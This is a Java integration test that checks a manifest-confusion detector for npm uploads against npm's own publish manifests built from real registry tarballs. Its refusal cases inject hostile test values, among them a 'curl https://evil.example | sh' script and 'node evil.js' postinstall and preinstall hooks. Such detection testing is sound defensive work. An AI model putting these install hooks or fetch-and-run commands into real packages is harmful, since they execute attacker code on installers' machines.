package dev.airlock.publish;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.airlock.platform.json.Json;
import dev.airlock.testing.Clients;
import java.io.IOException;
import java.io.InputStream;
import java.io.UncheckedIOException;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.StandardCopyOption;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.function.Consumer;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorInputStream;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Differential test of the manifest check against npm itself. For every package@version in manifest-corpus.txt the
 * real tarball is fetched from the public npm registry (system property airlock.corpus.registry) and its package.json
 * and file list are cached outside the repository (airlock.corpus.cache, default ~/.cache/airlock-corpus). The
 * {@code @npmcli/package-json} inside the installed npm 11.19.1 then builds the manifest npm publish would send for that
 * package (npm-publish-manifest.js, over a folder holding the package.json and the tarball's files), and the check
 * must find it the same as the tarball's raw package.json; uploads changed the way manifest confusion does must not.
 */
class ManifestCorpusIT {
    static final String REGISTRY = System.getProperty("airlock.corpus.registry", "https://registry.npmjs.org");
    static final Path CACHE = Path.of(
            System.getProperty("airlock.corpus.cache", System.getProperty("user.home") + "/.cache/airlock-corpus"));
    static final HttpClient HTTP = HttpClient.newBuilder()
            .followRedirects(HttpClient.Redirect.NORMAL)
            .connectTimeout(Duration.ofSeconds(20))
            .build();
    /** package@version → [raw package.json, npm's publish manifest], for those npm can publish at all. */
    static final Map<String, JsonNode[]> CORPUS = new LinkedHashMap<>();

    static final Map<String, Set<String>> FILES = new LinkedHashMap<>();
    static final Map<String, String> NPM_REFUSES = new LinkedHashMap<>();

    @TempDir
    static Path work;

    @BeforeAll
    static void buildCorpus() throws Exception {
        List<String> specs = Files.readAllLines(Path.of("src/test/resources/manifest-corpus.txt")).stream()
                .map(String::strip)
                .filter(l -> !l.isEmpty() && !l.startsWith("#"))
                .distinct()
                .toList();
        ExecutorService pool = Executors.newFixedThreadPool(6);
        try {
            List<Future<Path>> cached = new ArrayList<>();
            for (String spec : specs) {
                cached.add(pool.submit(() -> cached(spec)));
            }
            List<String> failed = new ArrayList<>();
            for (Future<Path> f : cached) {
                try {
                    f.get();
                } catch (java.util.concurrent.ExecutionException e) {
                    failed.add(e.getCause().getMessage());
                }
            }
            if (!failed.isEmpty()) {
                throw new AssertionError(
                        failed.size() + " corpus packages could not be read:\n" + String.join("\n", failed));
            }
            StringBuilder dirs = new StringBuilder();
            for (int i = 0; i < specs.size(); i++) {
                Path entry = cached.get(i).get();
                Set<String> files = new LinkedHashSet<>(Files.readAllLines(entry.resolve("files.txt")));
                Path dir = work.resolve("p" + i);
                for (String f : files) {
                    Path target = dir.resolve(f).normalize();
                    assertThat(target.startsWith(dir)).isTrue();
                    Files.createDirectories(target.getParent());
                    if (!Files.exists(target)) {
                        Files.createFile(target);
                    }
                }
                Files.copy(
                        entry.resolve("package.json"),
                        dir.resolve("package.json"),
                        StandardCopyOption.REPLACE_EXISTING);
                FILES.put(specs.get(i), files);
                dirs.append(dir).append('\n');
            }
            Map<String, JsonNode> npm = npmPublishManifests(dirs.toString());
            for (int i = 0; i < specs.size(); i++) {
                JsonNode out = npm.get(work.resolve("p" + i).toString());
                JsonNode raw = Json.MAPPER.readTree(
                        cached.get(i).get().resolve("package.json").toFile());
                if (out.has("error")) {
                    NPM_REFUSES.put(specs.get(i), out.get("error").asText());
                } else {
                    CORPUS.put(specs.get(i), new JsonNode[] {raw, out.get("manifest")});
                }
            }
        } finally {
            pool.shutdownNow();
        }
    }

    @Test
    void npmsOwnPublishManifestMatchesTheTarballForEveryRealPackage() {
        Map<String, Object> mismatches = new LinkedHashMap<>();
        CORPUS.forEach((spec, pair) -> {
            List<ManifestCheck.Difference> d = ManifestCheck.differences(pair[1], pair[0], FILES.get(spec));
            if (!d.isEmpty()) {
                mismatches.put(spec, d);
            }
        });
        System.out.printf(
                "manifest corpus: %d packages, %d that npm itself refuses to publish %s; cache %s%n",
                CORPUS.size() + NPM_REFUSES.size(), NPM_REFUSES.size(), NPM_REFUSES, CACHE);
        assertThat(mismatches)
                .as("packages whose npm publish manifest the check refuses")
                .isEmpty();
        assertThat(CORPUS.size()).isGreaterThanOrEqualTo(400);
        assertThat(NPM_REFUSES.size())
                .as("npm refuses only a few odd old manifests")
                .isLessThan(10);
    }

    @Test
    void theCorpusHoldsTheManifestsNpmRewrites() {
        int scriptPaths = 0, changedScripts = 0, changedBin = 0, binDirs = 0, gyp = 0, serverJs = 0, changedDeps = 0;
        for (var e : CORPUS.entrySet()) {
            JsonNode raw = e.getValue()[0];
            JsonNode npm = e.getValue()[1];
            scriptPaths += raw.path("scripts").toString().contains("node_modules/.bin/") ? 1 : 0;
            changedScripts += !raw.path("scripts").equals(npm.path("scripts")) ? 1 : 0;
            changedBin += raw.has("bin") && !raw.path("bin").equals(npm.path("bin")) ? 1 : 0;
            binDirs += raw.path("directories").has("bin") && !raw.has("bin") ? 1 : 0;
            gyp += npm.path("gypfile").asBoolean(false) ? 1 : 0;
            serverJs += FILES.get(e.getKey()).contains("server.js") ? 1 : 0;
            changedDeps += !raw.path("dependencies").equals(npm.path("dependencies")) ? 1 : 0;
        }
        System.out.printf(
                "corpus features: node_modules/.bin scripts %d, scripts rewritten %d, bin rewritten %d,"
                        + " directories.bin %d, gyp %d, server.js %d, dependencies rewritten %d%n",
                scriptPaths, changedScripts, changedBin, binDirs, gyp, serverJs, changedDeps);
        assertThat(scriptPaths).isGreaterThan(0);
        assertThat(changedScripts).isGreaterThan(scriptPaths);
        assertThat(changedBin).isGreaterThan(0);
        assertThat(gyp).isGreaterThan(0);
    }

    @Test
    void confusedUploadsOfEveryCorpusPackageAreStillRefused() {
        CORPUS.forEach((spec, pair) -> {
            Set<String> files = FILES.get(spec);
            JsonNode raw = pair[0];
            JsonNode npm = pair[1];
            refused(
                    spec,
                    npm,
                    raw,
                    files,
                    "dependencies",
                    m -> obj(m, "dependencies").put("evil-dependency", "1.0.0"));
            refused(spec, npm, raw, files, "scripts", m -> obj(m, "scripts").put("postinstall", "node evil.js"));
            refused(spec, npm, raw, files, "bin", m -> obj(m, "bin").put(first(m.path("bin"), "evil"), "evil.js"));
            refused(
                    spec,
                    npm,
                    raw,
                    files,
                    "optionalDependencies",
                    m -> obj(m, "optionalDependencies").put("evil", "1"));
            refused(spec, npm, raw, files, "os", m -> m.putArray("os").add("evil-os"));
            refused(spec, npm, raw, files, "engines", m -> obj(m, "engines").put("node", ">=99"));
            if (npm.path("dependencies").size() > 0) {
                String dep = first(npm.path("dependencies"), null);
                refused(
                        spec,
                        npm,
                        raw,
                        files,
                        "dependencies",
                        m -> obj(m, "dependencies").put(dep, "9.9.9-evil"));
                refused(
                        spec,
                        npm,
                        raw,
                        files,
                        "dependencies",
                        m -> obj(m, "dependencies").remove(dep));
            }
            if (npm.path("scripts").size() > 0) {
                String script = first(npm.path("scripts"), null);
                refused(
                        spec,
                        npm,
                        raw,
                        files,
                        "scripts",
                        m -> obj(m, "scripts").put(script, "curl https://evil.example | sh"));
            }
            // the tarball hides what the request does not show
            refusedTarball(
                    spec,
                    npm,
                    raw,
                    files,
                    "dependencies",
                    m -> obj(m, "dependencies").put("evil-dependency", "1.0.0"));
            refusedTarball(
                    spec, npm, raw, files, "scripts", m -> obj(m, "scripts").put("preinstall", "node evil.js"));
            refusedTarball(spec, npm, raw, files, "bin", m -> obj(m, "bin").put("evil", "evil.js"));
        });
    }

    /** A hand-made package: package.json, the files of its folder, and the ones its tarball keeps. */
    record Odd(String name, String packageJson, List<String> folder, List<String> tarball) {}

    static final List<Odd> ODD = List.of(
            new Odd(
                    "script paths",
                    "{\"name\":\"odd-scripts\",\"version\":\"1.0.0\",\"scripts\":{\"a\":\"./node_modules/.bin/x -y\","
                            + "\"b\":\"node_modules\\\\.bin\\\\x\",\"c\":\"node_modules/xbin/y\",\"d\":1,\"e\":\"tap node_modules/.bin/x\"}}",
                    List.of(),
                    List.of()),
            new Odd(
                    "scripts not an object",
                    "{\"name\":\"odd-scripts2\",\"version\":\"1.0.0\",\"scripts\":\"x\"}",
                    List.of(),
                    List.of()),
            new Odd(
                    "bin string, scoped",
                    "{\"name\":\"@odd/bin\",\"version\":\"1.0.0\",\"bin\":\"./cli.js\"}",
                    List.of("cli.js"),
                    List.of("cli.js")),
            new Odd(
                    "bin array and odd paths",
                    "{\"name\":\"odd-bin\",\"version\":\"1.0.0\",\"bin\":{\"../up\":\"./a/../b.js\","
                            + "\"win\":\"C:\\\\x\\\\y.js\",\"dir/\":\"d/\",\"gone\":\"..\",\"num\":1}}",
                    List.of("b.js"),
                    List.of("b.js")),
            new Odd(
                    "bin array",
                    "{\"name\":\"odd-bin2\",\"version\":\"1.0.0\",\"bin\":[\"./bin/a.js\",\"b\"]}",
                    List.of(),
                    List.of()),
            new Odd(
                    "directories.bin with folders and dotfiles",
                    "{\"name\":\"odd-bindir\",\"version\":\"1.0.0\"," + "\"directories\":{\"bin\":\"./tools/\"}}",
                    List.of("tools/a", "tools/sub/b", "tools/.x", "tools/.d/c", "tools/left-out"),
                    List.of("tools/a", "tools/sub/b", "tools/.x", "tools/.d/c")),
            new Odd(
                    "server.js and a gyp file left out of the tarball",
                    "{\"name\":\"odd-left-out\",\"version\":\"1.0.0\"," + "\"scripts\":{\"start\":\"\"}}",
                    List.of("server.js", "addon.gyp"),
                    List.of()),
            new Odd(
                    "gyp kept, gypfile false, empty install",
                    "{\"name\":\"odd-gyp\",\"version\":\"1.0.0\",\"gypfile\":false,"
                            + "\"scripts\":{\"install\":\"\"}}",
                    List.of("binding.gyp"),
                    List.of("binding.gyp")),
            new Odd(
                    "gyp kept, empty install",
                    "{\"name\":\"odd-gyp2\",\"version\":\"1.0.0\",\"scripts\":{\"install\":\"\","
                            + "\"preinstall\":0}}",
                    List.of("binding.gyp", "server.js"),
                    List.of("binding.gyp", "server.js")),
            new Odd(
                    "dependency lists",
                    "{\"name\":\"odd-deps\",\"version\":\"1.0.0\",\"dependencies\":\"a@1 b>=2, c\","
                            + "\"devDependencies\":[\"d@1\",\"@s/e@2\",\"f:@3\",7],\"optionalDependencies\":{\"g\":1}}",
                    List.of(),
                    List.of()),
            new Odd(
                    "git dependencies",
                    "{\"name\":\"odd-git\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"user/repo#v1\","
                            + "\"b\":\"git@github.com:u/p.git\",\"c\":\"https://github.com/u/p\",\"d\":\"git://github.com/u/p.git#abc\","
                            + "\"e\":\"bitbucket:u/p\",\"f\":\"git+https://gitlab.com/g/sub/p.git\",\"g\":\"github:u/p#semver:^1\","
                            + "\"h\":\"https://github.com/u/p/tree/dev\",\"i\":\"git+ssh://git@github.com/u/p.git\",\"j\":\"^1.0.0\"},"
                            + "\"devDependencies\":{\"k\":\"gist:123abc\",\"l\":\"npm:other@1\",\"m\":false}}",
                    List.of(),
                    List.of()),
            new Odd(
                    "bundled true",
                    "{\"name\":\"odd-bundle\",\"version\":\"1.0.0\",\"dependencies\":{\"a\":\"1\"},"
                            + "\"bundledDependencies\":true}",
                    List.of(),
                    List.of()),
            new Odd(
                    "bundled object and missing",
                    "{\"name\":\"odd-bundle2\",\"version\":\"1.0.0\"," + "\"bundleDependencies\":{\"x\":1}}",
                    List.of(),
                    List.of()),
            new Odd(
                    "bundled list and missing",
                    "{\"name\":\"odd-bundle3\",\"version\":\"1.0.0\",\"bundleDependencies\":[\"y\",\"\",3]}",
                    List.of(),
                    List.of()),
            new Odd(
                    "bundled false",
                    "{\"name\":\"odd-bundle4\",\"version\":\"1.0.0\",\"bundleDependencies\":false,"
                            + "\"bundledDependencies\":[\"z\"]}",
                    List.of(),
                    List.of()),
            new Odd(
                    "loose version and spaced name",
                    "{\"name\":\"  odd-spaced \",\"version\":\" v01.2.3-01.beta+build\"}",
                    List.of(),
                    List.of()));

    @Test
    void npmsOwnManifestOfOddHandMadePackagesMatches() throws Exception {
        StringBuilder dirs = new StringBuilder();
        for (int i = 0; i < ODD.size(); i++) {
            Path dir = work.resolve("odd" + i);
            for (String f : ODD.get(i).folder()) {
                Files.createDirectories(dir.resolve(f).getParent());
                Files.writeString(dir.resolve(f), "");
            }
            Files.createDirectories(dir);
            Files.writeString(dir.resolve("package.json"), ODD.get(i).packageJson());
            dirs.append(dir).append('\n');
        }
        Map<String, JsonNode> npm = npmPublishManifests(dirs.toString());
        for (int i = 0; i < ODD.size(); i++) {
            Odd odd = ODD.get(i);
            JsonNode out = npm.get(work.resolve("odd" + i).toString());
            assertThat(out.has("manifest")).as(odd.name() + ": " + out).isTrue();
            Set<String> tarball = new LinkedHashSet<>(odd.tarball());
            tarball.add("package.json");
            JsonNode raw = Json.MAPPER.readTree(odd.packageJson());
            assertThat(ManifestCheck.differences(out.get("manifest"), raw, tarball))
                    .as(odd.name() + ": npm sent " + out.get("manifest"))
                    .isEmpty();
            refused(
                    odd.name(),
                    out.get("manifest"),
                    raw,
                    tarball,
                    "scripts",
                    m -> obj(m, "scripts").put("install", "node x"));
            refused(
                    odd.name(),
                    out.get("manifest"),
                    raw,
                    tarball,
                    "scripts",
                    m -> obj(m, "scripts").put("start", "node evil.js"));
            refused(
                    odd.name(),
                    out.get("manifest"),
                    raw,
                    tarball,
                    "bin",
                    m -> obj(m, "bin").put("sh", "tools/a"));
        }
    }

    private static void refused(
            String spec, JsonNode npm, JsonNode raw, Set<String> files, String field, Consumer<ObjectNode> change) {
        ObjectNode body = npm.deepCopy();
        change.accept(body);
        assertThat(ManifestCheck.differences(body, raw, files))
                .as(spec + ": request with a changed " + field)
                .extracting(ManifestCheck.Difference::field)
                .contains(field);
    }

    private static void refusedTarball(
            String spec, JsonNode npm, JsonNode raw, Set<String> files, String field, Consumer<ObjectNode> change) {
        ObjectNode tarball = raw.deepCopy();
        change.accept(tarball);
        assertThat(ManifestCheck.differences(npm, tarball, files))
                .as(spec + ": tarball with a changed " + field)
                .extracting(ManifestCheck.Difference::field)
                .contains(field);
    }

    private static ObjectNode obj(ObjectNode m, String field) {
        if (!(m.get(field) instanceof ObjectNode)) {
            m.putObject(field);
        }
        return (ObjectNode) m.get(field);
    }

    private static String first(JsonNode object, String otherwise) {
        return object.isObject() && object.size() > 0 ? object.fieldNames().next() : otherwise;
    }

    /** Runs npm-publish-manifest.js with the installed npm over the folders, one per line. */
    private static Map<String, JsonNode> npmPublishManifests(String dirs) throws Exception {
        Path npmDir = Clients.root().resolve("node_modules/npm");
        Process p = new ProcessBuilder(
                        "node",
                        Path.of("src/test/resources/npm-publish-manifest.js")
                                .toAbsolutePath()
                                .toString(),
                        npmDir.toString())
                .redirectError(ProcessBuilder.Redirect.INHERIT)
                .start();
        try (var in = p.getOutputStream()) {
            in.write(dirs.getBytes(StandardCharsets.UTF_8));
        }
        Map<String, JsonNode> out = new LinkedHashMap<>();
        for (String line : new String(p.getInputStream().readAllBytes(), StandardCharsets.UTF_8).split("\n")) {
            if (!line.isBlank()) {
                JsonNode n = Json.MAPPER.readTree(line);
                out.put(n.get("dir").asText(), n);
            }
        }
        assertThat(p.waitFor()).as("npm-publish-manifest.js exit code").isZero();
        return out;
    }

    /** The cache entry of one package@version (package.json + files.txt), fetched from the registry when missing. */
    static Path cached(String spec) throws IOException, InterruptedException {
        int at = spec.lastIndexOf('@');
        String name = spec.substring(0, at);
        String version = spec.substring(at + 1);
        Path entry = CACHE.resolve(name.replace("/", "%2f") + "@" + version);
        if (Files.isRegularFile(entry.resolve("files.txt"))) {
            return entry;
        }
        String escaped =
                name.startsWith("@") ? "@" + URLEncoder.encode(name.substring(1), StandardCharsets.UTF_8) : name;
        JsonNode doc = Json.MAPPER.readTree(
                get(REGISTRY + "/" + escaped + "/" + version, spec).readAllBytes());
        String tarball = doc.path("dist").path("tarball").asText();
        byte[] packageJson = null;
        List<String> files = new ArrayList<>();
        try (InputStream body = get(tarball, spec);
                TarArchiveInputStream tar = new TarArchiveInputStream(
                        GzipCompressorInputStream.builder().setInputStream(body).get())) {
            TarArchiveEntry e;
            while ((e = tar.getNextEntry()) != null) {
                // npm extracts with strip: 1, whatever the top folder is called
                String path = e.getName().replace('\\', '/').replaceFirst("^(\\./)+", "");
                int slash = path.indexOf('/');
                if (!e.isFile() || slash < 0 || slash == path.length() - 1) {
                    continue;
                }
                String rel = path.substring(slash + 1);
                files.add(rel);
                if (rel.equals("package.json")) {
                    packageJson = tar.readAllBytes();
                }
            }
        }
        if (packageJson == null) {
            throw new AssertionError(spec + ": the tarball " + tarball + " has no package.json");
        }
        Path tmp = Files.createDirectories(
                CACHE.resolve(".tmp-" + Thread.currentThread().getId()));
        Files.write(tmp.resolve("package.json"), packageJson);
        Files.write(tmp.resolve("files.txt"), files);
        Files.createDirectories(entry);
        Files.move(tmp.resolve("package.json"), entry.resolve("package.json"), StandardCopyOption.REPLACE_EXISTING);
        Files.move(tmp.resolve("files.txt"), entry.resolve("files.txt"), StandardCopyOption.REPLACE_EXISTING);
        return entry;
    }

    private static InputStream get(String url, String spec) throws InterruptedException {
        try {
            HttpResponse<InputStream> r = HTTP.send(
                    HttpRequest.newBuilder(URI.create(url))
                            .timeout(Duration.ofMinutes(3))
                            .header("Accept", "application/json")
                            .build(),
                    HttpResponse.BodyHandlers.ofInputStream());
            if (r.statusCode() != 200) {
                r.body().close();
                throw new AssertionError(spec + ": " + url + " answered HTTP " + r.statusCode()
                        + "; fix the corpus list (src/test/resources/manifest-corpus.txt)");
            }
            return r.body();
        } catch (IOException e) {
            throw new UncheckedIOException(
                    "The manifest corpus test needs the public npm registry to fill its cache ("
                            + CACHE + "), and " + url + " could not be fetched for " + spec + ": " + e
                            + ". Connect to the network, or point -Dairlock.corpus.registry at a mirror.",
                    e);
        }
    }
}
